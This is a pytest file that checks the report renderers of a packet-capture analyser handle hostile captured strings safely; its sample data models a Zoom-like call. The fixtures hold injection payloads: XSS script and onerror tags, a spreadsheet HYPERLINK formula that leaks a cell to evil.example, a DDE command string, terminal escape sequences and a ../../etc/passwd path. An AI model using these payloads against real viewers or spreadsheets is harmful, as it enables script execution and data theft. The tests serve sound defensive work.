"""Report renderers: structure of every format, and inertness of hostile captured strings.

The report dict is built here the way the session stage builds it for a Zoom-like call seen from
the US: web and media servers in the US, the zone controller that hands out the meeting key in
CN (the Citizen Lab 2020 finding), a STUN server, a European signaling relay, and one server whose
TLS SNI carries markup.
"""

from __future__ import annotations

import html
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from rich.console import Console

from analyzer.report import FILENAMES, to_html, to_json, to_markdown, validate_report, write_reports
from analyzer.report.jsonout import SCHEMA
from analyzer.report.sanitize import csv_cell, json_for_script, md_escape, strip_terminal
from analyzer.report.tabular import JSON_COLUMNS_KEY, csv_frame, write_csv, write_parquet
from analyzer.report.terminal import render_summary
from analyzer.report.worldmap import endpoints, ring_path

XSS = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ANSI = "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x07\rbell[bold]markup[/bold]"
MD_LINK = "[click](http://evil.example) ![img](http://evil.example/x.png) <b>x</b> | a*b*_c_ `code`"
T0 = 1586000000.0


def _flow(fid: int, transport: str, server: tuple[str, int], start: float, end: float, app: str,
          protocol: str, roles: list[str], by_role: dict[str, int], hostname: str | None,
          country: str | None, asn: int | None, org: str | None, pkts: tuple[int, int]) -> dict[str, Any]:
    total = sum(by_role.values())
    return {
        "flow_id": fid, "transport": transport, "ip_version": 4,
        "client_ip": "192.168.1.20", "client_port": 50000 + fid,
        "server_ip": server[0], "server_port": server[1],
        "first_ts": T0 + start, "last_ts": T0 + end,
        "packets_c2s": pkts[0], "packets_s2c": pkts[1],
        "bytes_c2s": total // 2, "bytes_s2c": total - total // 2,
        "app": app, "protocol": protocol, "roles": roles, "bytes_by_role": by_role,
        "hostname": hostname, "server_country": country, "server_asn": asn, "server_org": org,
        "community_id": f"1:fakeid{fid}=",
    }


def sample_flows() -> pd.DataFrame:
    rows = [
        _flow(0, "udp", ("192.168.1.1", 53), 0.0, 0.2, "unknown", "dns", ["dns"], {"dns": 420},
              None, None, None, None, (3, 3)),
        _flow(1, "tcp", ("170.114.52.2", 443), 0.3, 58.0, "zoom", "tls", ["signaling"],
              {"signaling": 48_000}, "zoom.us", "US", 30103, "Zoom Video Communications", (60, 70)),
        _flow(2, "tcp", ("109.244.194.121", 443), 0.8, 59.0, "zoom", "tls", ["signaling", "key_exchange"],
              {"key_exchange": 9_000, "signaling": 21_000}, "zmcn-zc.zoom.us", "CN", 45090,
              "Shenzhen Tencent Computer Systems", (80, 90)),
        _flow(3, "udp", ("162.255.37.14", 8801), 2.0, 60.0, "zoom", "zoom-media", ["media"],
              {"media": 9_400_000}, None, "US", 30103, "Zoom Video Communications", (9000, 11000)),
        _flow(4, "udp", ("162.255.38.14", 8801), 15.0, 45.0, "zoom", "zoom-media", ["media"],
              {"media": 3_100_000}, None, "US", 30103, "Zoom Video Communications", (3000, 3500)),
        _flow(5, "udp", ("52.202.62.236", 3478), 1.5, 2.5, "zoom", "stun", ["nat_traversal"],
              {"nat_traversal": 1_300}, None, "US", 14618, "Amazon.com, Inc.", (6, 6)),
        _flow(6, "tcp", ("213.19.144.104", 443), 1.0, 30.0, "zoom", "tls", ["signaling"],
              {"signaling": 12_000}, "eu01web.zoom.us", "NL", 30103, "Zoom Video Communications", (20, 20)),
        _flow(7, "tcp", ("198.51.100.66", 443), 5.0, 6.0, "unknown", "tls", ["other"],
              {"other": 2_500}, XSS, "DE", 64500, MD_LINK, (8, 8)),
    ]
    df = pd.DataFrame(rows)
    # The session stage hands over numpy dtypes; keep them so conversion is exercised.
    for col in ("packets_c2s", "packets_s2c", "bytes_c2s", "bytes_s2c"):
        df[col] = df[col].astype(np.int64)
    df["tcp_rtt_ms"] = [np.nan, 12.5, 210.0, np.nan, np.nan, np.nan, 95.0, 30.0]
    return df


def sample_report(flows: pd.DataFrame | None = None) -> dict[str, Any]:
    flows = sample_flows() if flows is None else flows
    records = flows.to_dict("records")
    countries: dict[str, dict[str, Any]] = {}
    for f in records:
        cc = f["server_country"]
        if not isinstance(cc, str):  # private peers: NaN in a pandas 3 str column
            continue
        c = countries.setdefault(
            cc, {"country": cc, "flows": 0, "packets": 0, "bytes": 0, "bytes_by_role": {}}
        )
        c["flows"] += 1
        c["packets"] += f["packets_c2s"] + f["packets_s2c"]
        c["bytes"] += f["bytes_c2s"] + f["bytes_s2c"]
        for role, b in f["bytes_by_role"].items():
            c["bytes_by_role"][role] = c["bytes_by_role"].get(role, 0) + b
    return {
        "schema": SCHEMA,
        "tool": {"name": "confscope", "version": "0.1.0"},
        "capture": {
            "path": "/captures/zoom-call <b>1</b>.pcapng", "sha256": "ab" * 32, "format": "pcapng",
            "linktypes": [1], "packets": np.int64(26_804), "bytes": np.int64(12_600_000),
            "first_ts": T0, "last_ts": T0 + 60.0, "duration_s": np.float64(60.0), "skipped_packets": 0,
            "warnings": ["3 packets truncated by snaplen"],
        },
        "geo": {"databases": [
            {"name": "geo-whois-asn-country", "type": "country", "build_date": "2026-06-17",
             "sha256": "cd" * 32},
            {"name": "ip-location-db asn", "type": "asn", "build_date": "2026-06-17", "sha256": "ef" * 32},
        ]},
        "vantage": {"local_ips": ["192.168.1.20"], "public_ips": ["203.0.113.7"], "country": "US",
                    "source": "option --vantage"},
        "apps": [{"app": "zoom", "flows": 6, "packets": 26_780, "bytes": 12_590_000},
                 {"app": "unknown", "flows": 2, "packets": 22, "bytes": 2_920}],
        "countries": sorted(countries.values(), key=lambda c: -c["bytes"]),
        "key_exchange": [{"flow_id": 2, "app": "zoom", "protocol": "tls", "server_ip": "109.244.194.121",
                          "server_port": 443, "hostname": "zmcn-zc.zoom.us", "country": "CN", "asn": 45090,
                          "org": "Shenzhen Tencent Computer Systems"}],
        "media": [
            {"flow_id": 3, "app": "zoom", "protocol": "zoom-media", "server_ip": "162.255.37.14",
             "server_port": 8801, "country": "US", "packets": 20_000, "bytes": 9_400_000,
             "streams": [{"ssrc": 16778241, "media_type": "audio", "packets": 6000, "bytes": 900_000},
                         {"ssrc": 16778242, "media_type": "video", "packets": 14000, "bytes": 8_500_000}]},
            {"flow_id": 4, "app": "zoom", "protocol": "zoom-media", "server_ip": "162.255.38.14",
             "server_port": 8801, "country": "US", "packets": 6_500, "bytes": 3_100_000,
             "streams": [{"ssrc": 16778243, "media_type": "screen_share", "packets": 6500,
                          "bytes": 3_100_000}]},
        ],
        "policy": {"allowed_countries": ["US", "CA"], "violations": [
            {"flow_id": 6, "role": "signaling", "country": "NL", "severity": "medium"},
            {"flow_id": 2, "role": "key_exchange", "country": "CN", "severity": "critical"},
            {"flow_id": 7, "role": "other", "country": "DE", "severity": "low"},
        ]},
        "findings": [
            {"code": "SIGNALING_OUTSIDE_POLICY", "severity": "medium", "title": "Signaling outside policy",
             "detail": "Signaling went to NL.", "flow_ids": [6]},
            {"code": "KEY_EXCHANGE_OUTSIDE_POLICY", "severity": "critical",
             "title": "Meeting key handed out outside the policy",
             "detail": f"The zone controller in CN (zmcn-zc.zoom.us) delivered key material; SNI seen: {XSS}",
             "flow_ids": [2]},
        ],
        "flows": records,
        "meetings": 1,
        "options": {"allow": ["US", "CA"], "geoip": [], "vantage": "US"},
    }


# ---------------------------------------------------------------- JSON


def test_json_is_strict_ordered_and_plain() -> None:
    report = sample_report()
    report["capture"]["weird"] = float("nan")
    out = to_json(report)
    assert "NaN" not in out and "Infinity" not in out
    data = json.loads(out)
    assert list(data)[:4] == ["schema", "tool", "capture", "geo"]
    assert list(data)[-1] == "options"  # extras after the contract keys, sorted
    assert data["capture"]["weird"] is None
    assert data["capture"]["packets"] == 26_804 and isinstance(data["capture"]["packets"], int)
    assert data["flows"][0]["tcp_rtt_ms"] is None  # numpy NaN from the DataFrame
    assert list(data["flows"][3])[:3] == ["flow_id", "transport", "client_ip"]
    assert to_json(sample_report()) == to_json(sample_report())  # deterministic
    assert validate_report(data) == []


def test_validate_report_lists_missing_keys() -> None:
    report = json.loads(to_json(sample_report()))
    del report["capture"]["sha256"]
    del report["flows"][1]["hostname"]
    del report["media"][0]["streams"][1]["ssrc"]
    report["schema"] = "other/2"
    del report["policy"]
    problems = validate_report(report)
    text = "\n".join(problems)
    assert "capture.sha256: missing" in text
    assert "flows[].hostname: missing in 1 of 8" in text
    assert "media[0].streams[].ssrc" in text
    assert "schema" in text and "policy: missing" in text
    assert validate_report([]) == ["report: not an object"]


# ---------------------------------------------------------------- Markdown


def test_markdown_has_every_section() -> None:
    md = to_markdown(sample_report())
    for heading in ("## Summary", "## Findings", "## Countries and roles", "## Key-exchange endpoints",
                    "## Media flows", "## Policy violations", "## Provenance", "## Data attributions"):
        assert heading in md
    assert "Key exchange handled in:** CN" in md
    # Countries table: CN row carries key-exchange bytes exactly.
    cn_row = next(line for line in md.splitlines() if line.startswith("| CN |"))
    assert "9,000" in cn_row and "21,000" in cn_row
    assert md.index("CRITICAL") < md.index("MEDIUM")  # findings sorted by severity
    assert "[IP Geolocation by DB-IP](https://db-ip.com)" in md
    assert "Natural Earth" in md
    assert "ab" * 32 in md


def _md_table_rows_ok(md: str) -> None:
    lines = md.splitlines()
    for i, line in enumerate(lines):
        if line.startswith("| ---") or line.startswith("| ---:"):
            n = line.count("|")
            j = i + 1
            while j < len(lines) and lines[j].startswith("|"):
                # Escaped pipes do not count as cell separators.
                assert lines[j].count("|") - lines[j].count("\\|") == n, lines[j]
                j += 1


def test_markdown_hostile_strings_are_inert() -> None:
    report = sample_report()
    report["key_exchange"][0]["hostname"] = MD_LINK + "\nnew line"
    report["findings"][0]["title"] = "www.evil.example and http://evil.example"
    md = to_markdown(report)
    _md_table_rows_ok(md)
    assert "<script" not in md and "<img" not in md and "<b>" not in md
    assert md.count("](http") == 1 and "![" not in md  # 1: our own DB-IP attribution
    assert "\\[click\\]" in md
    assert "http://" not in md.replace("http\\://", "")  # only our own https link
    assert "www.evil" not in md  # GFM autolink broken (www\.)
    assert "new line" in md and "\nnew line" not in md
    # Our own DB-IP link is the only Markdown link.
    assert re.findall(r"(?<!\\)\]\(", md) == ["]("]


def test_md_escape_unit() -> None:
    assert md_escape("a|b") == "a\\|b"
    assert md_escape("<x>&") == "&lt;x&gt;&amp;"
    assert md_escape("`*_[]") == "\\`\\*\\_\\[\\]"
    assert md_escape("line1\nline2") == "line1 line2"
    assert md_escape(None) == ""


# ---------------------------------------------------------------- HTML


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def _parse(page: str) -> _Collector:
    p = _Collector()
    p.feed(page)
    return p


def test_html_structure_and_self_contained() -> None:
    flows = sample_flows()
    flows.loc[7, "server_org"] = "Example Org"  # captured URLs as text are covered by the hostile test
    page = to_html(sample_report(flows), flows)
    p = _parse(page)
    ids = {a.get("id") for _, a in p.tags}
    for section in ("summary", "findings", "policy", "country-chart", "world-map", "vantage", "key-exchange",
                    "media", "timeline", "flow-table", "provenance", "attributions", "report-data"):
        assert section in ids, section
    # Summary and findings come first.
    assert page.index('id="summary"') < page.index('id="findings"') < page.index('id="world-map"')
    # No external resources at all: the DB-IP attribution is the only URL.
    urls = re.findall(r"https?://[^\s\"'<>)]+", page)
    assert urls == ["https://db-ip.com"]
    links = [a for t, a in p.tags if t == "a"]
    assert links == [{"href": "https://db-ip.com"}]
    assert ">IP Geolocation by DB-IP</a>" in page and "Natural Earth" in page
    assert not [t for t, a in p.tags if t in ("link", "img", "iframe", "object", "embed")]
    assert [a for t, a in p.tags if t == "script" and "src" in a] == []
    # Exactly one executable script, allowed by its hash in the CSP.
    csp = next(a["content"] for t, a in p.tags if t == "meta" and a.get("http-equiv"))
    assert "default-src 'none'" in csp and "script-src 'sha256-" in csp
    # Flow table: one row per flow; chart: a bar per country; map: one dot per placed endpoint.
    assert page.count('<tr><td class="n" data-v=') >= len(flows)
    assert len(re.findall(r'<g class="bar" data-country="', page)) == 4
    assert re.findall(r'data-role="key_exchange"', page) == ['data-role="key_exchange"']
    assert len(re.findall(r'<circle class="ep"', page)) == 7  # all but the private DNS server
    assert len(re.findall(r'<g class="tl">', page)) == len(flows)
    # Key-exchange country highlighted.
    assert re.search(r'<path class="land kx" data-cc="CN"', page)
    assert re.search(r'<path class="land used" data-cc="US"', page)
    assert not re.search(r'class="land kx" data-cc="US"', page)


def test_html_embedded_json_round_trips() -> None:
    flows = sample_flows()
    page = to_html(sample_report(flows), flows)
    p = _parse(page)
    payload = p.scripts[0]
    assert "</" not in payload and "<" not in payload
    data = json.loads(payload)
    assert data["key_exchange"][0]["country"] == "CN"
    assert data["findings"][1]["detail"].endswith(XSS)  # sorted keys; XSS kept as data, not markup


def test_html_hostile_strings_are_inert() -> None:
    flows = sample_flows()
    flows.loc[3, "hostname"] = "</script><script>alert(2)</script>\u2028"
    report = sample_report(flows)
    report["capture"]["path"] = f"/tmp/{XSS}.pcap"
    report["vantage"]["source"] = XSS
    report["geo"]["databases"][0]["name"] = XSS
    page = to_html(report, flows)
    p = _parse(page)
    # No element or attribute injected anywhere: the only scripts are our two.
    assert [t for t, _ in p.tags].count("script") == 2
    assert not [t for t, _ in p.tags if t == "img"]
    assert all("onerror" not in a for _, a in p.tags)
    assert "alert(1)" in html.unescape(page)  # the text is shown, escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&quot;&gt;&lt;script&gt;" in page  # attribute/title escaping with quote=True
    # Captured URLs appear only as text, never in an attribute that loads or links.
    for _, attrs in p.tags:
        for name, value in attrs.items():
            if value and "evil" in value:
                assert name not in ("href", "src", "action", "style", "srcset", "xlink:href"), (name, value)
    assert "\u2028" not in p.scripts[0]


def test_json_for_script_cannot_break_out() -> None:
    s = json_for_script({"x": "</script><!-- \u2028\u2029 &amp;"})
    assert "<" not in s and ">" not in s and "&" not in s and "\u2028" not in s and "\u2029" not in s
    assert json.loads(s) == {"x": "</script><!-- \u2028\u2029 &amp;"}


def test_map_endpoints_skip_local_and_place_unknown_as_note() -> None:
    flows = sample_flows()
    flows.loc[5, "server_country"] = "ZZ"
    eps = {e["ip"]: e for e in endpoints(flows)}
    assert "192.168.1.1" not in eps  # private resolver: not a place
    assert eps["109.244.194.121"]["role"] == "key_exchange"
    assert eps["52.202.62.236"]["lat"] is None  # ZZ has no centroid
    lat, lon = eps["109.244.194.121"]["lat"], eps["109.244.194.121"]["lon"]
    assert 18 < lat < 54 and 73 < lon < 135  # inside China's bounding box
    flows["server_lat"] = [None, None, 23.1, None, None, None, None, None]
    flows["server_lon"] = [None, None, 113.3, None, None, None, None, None]
    eps = {e["ip"]: e for e in endpoints(flows)}
    assert (eps["109.244.194.121"]["lat"], eps["109.244.194.121"]["lon"]) == (23.1, 113.3)
    page = to_html(sample_report(flows), flows)
    assert "1 endpoint with no known country not drawn" in page


def test_ring_path_breaks_at_antimeridian_jump() -> None:
    d = ring_path([(170.0, 60.0), (179.0, 62.0), (-179.0, 63.0), (-170.0, 61.0), (170.0, 60.0)])
    assert d.count("M") == 3  # start, jump east->west, jump back: never a line across the map
    assert ring_path([(0.0, 0.0), (10.0, 0.0), (10.0, 10.0), (0.0, 0.0)]).count("M") == 1


def test_html_without_flows_dataframe_uses_report_flows() -> None:
    page = to_html(sample_report(), None)
    assert len(re.findall(r'<g class="tl">', page)) == 8


# ---------------------------------------------------------------- CSV / Parquet


def test_csv_is_spreadsheet_safe(tmp_path: Path) -> None:
    flows = sample_flows()
    flows.loc[1, "hostname"] = FORMULA
    flows.loc[2, "hostname"] = "+cmd|' /C calc'!A0"
    flows.loc[4, "hostname"] = "-2+3"
    flows.loc[5, "hostname"] = "@SUM(1,1)"
    flows.loc[6, "hostname"] = "\t=1+1"
    flows.loc[0, "server_org"] = "\r=1+1"
    path = write_csv(flows, tmp_path / "flows.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert len(back) == len(flows)
    for col in back.columns:
        for cell in back[col]:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (col, cell)
            if col != "tcp_rtt_ms":
                assert not cell.startswith("-"), (col, cell)
    assert back.loc[1, "hostname"] == "'" + FORMULA
    # Numbers stay numbers; list/dict columns are JSON text.
    assert back.loc[3, "bytes_c2s"] == "4700000"
    assert json.loads(back.loc[2, "roles"]) == ["signaling", "key_exchange"]
    assert json.loads(back.loc[2, "bytes_by_role"]) == {"key_exchange": 9000, "signaling": 21000}
    assert csv_cell(-5) == -5 and csv_cell("-5") == "'-5" and csv_cell("ok") == "ok"
    assert pd.isna(csv_frame(flows)["hostname"].iloc[3])  # missing stays empty, not "None"
    assert back.loc[3, "hostname"] == ""


def test_parquet_keeps_types(tmp_path: Path) -> None:
    flows = sample_flows()
    path = write_parquet(flows, tmp_path / "flows.parquet")
    table = pq.read_table(path)
    schema = table.schema
    assert str(schema.field("roles").type) == "list<element: string>"
    assert str(schema.field("bytes_c2s").type) == "int64"
    assert str(schema.field("first_ts").type) == "double"
    by_role_type = schema.field("bytes_by_role").type
    assert pa.types.is_map(by_role_type)
    assert by_role_type.key_type == pa.string() and by_role_type.item_type == pa.int64()
    assert json.loads(schema.metadata[JSON_COLUMNS_KEY]) == []
    df = table.to_pandas()
    assert list(df.loc[2, "roles"]) == ["signaling", "key_exchange"]
    assert dict(df.loc[2, "bytes_by_role"]) == {"key_exchange": 9000, "signaling": 21000}
    assert pd.isna(df.loc[0, "hostname"]) and df.loc[1, "hostname"] == "zoom.us"
    assert np.isnan(df.loc[0, "tcp_rtt_ms"])


# ---------------------------------------------------------------- terminal


def _render(report: dict[str, Any]) -> str:
    buf = io.StringIO()
    console = Console(file=buf, width=200, force_terminal=True, color_system="truecolor")
    render_summary(report, console)
    return buf.getvalue()


def test_terminal_summary_tables() -> None:
    buf = io.StringIO()
    render_summary(sample_report(), Console(file=buf, width=200, force_terminal=False))
    out = buf.getvalue()
    assert "Bytes by remote country and role" in out and "Key-exchange endpoints" in out
    assert "Findings" in out and "KEY_EXCHANGE_OUTSIDE_POLICY" in out
    assert "zmcn-zc.zoom.us" in out and "109.244.194.121:443" in out
    assert "CRITICAL" in out and "3 policy violations" in out
    assert out.index("CRITICAL") < out.index("MEDIUM")


def test_terminal_strips_escapes_and_markup() -> None:
    report = sample_report()
    report["key_exchange"][0]["hostname"] = ANSI
    report["key_exchange"][0]["org"] = "\u202eevil\u2066"
    report["findings"][0]["title"] = ANSI
    out = _render(report)
    # rich emits its own SGR colour codes; none of the capture's survive: no red (31), no OSC 8
    # hyperlink, no BEL, no carriage return, no bidi override.
    assert "\x1b[31m" not in out and "\x1b]8;;http" not in out and "evil.example" not in out
    assert "\x07" not in out and "\r" not in out and "\u202e" not in out and "\u2066" not in out
    assert "bell[bold]markup[/bold]" in out  # markup printed literally, not interpreted
    assert strip_terminal("a\x1b[2Jb\x9b1mc\x00d") == "abc\ufffdd"  # NUL shown, not hidden


# ---------------------------------------------------------------- write_reports


def test_write_reports_writes_all_formats(tmp_path: Path) -> None:
    flows = sample_flows()
    report = sample_report(flows)
    report["capture"]["path"] = "../../etc/passwd"  # names never come from the capture
    out = write_reports(report, flows, tmp_path / "out")
    assert {k: p.name for k, p in out.items()} == FILENAMES
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(FILENAMES.values())
    assert json.loads(out["json"].read_text())["schema"] == SCHEMA
    assert out["html"].read_text().startswith("<!DOCTYPE html>")
    assert pq.read_table(out["parquet"]).num_rows == len(flows)
    only = write_reports(report, flows, tmp_path / "two", formats=["json", "md"])
    assert set(only) == {"json", "md"}
    with pytest.raises(ValueError, match="unknown report format"):
        write_reports(report, flows, tmp_path / "bad", formats=["pdf"])
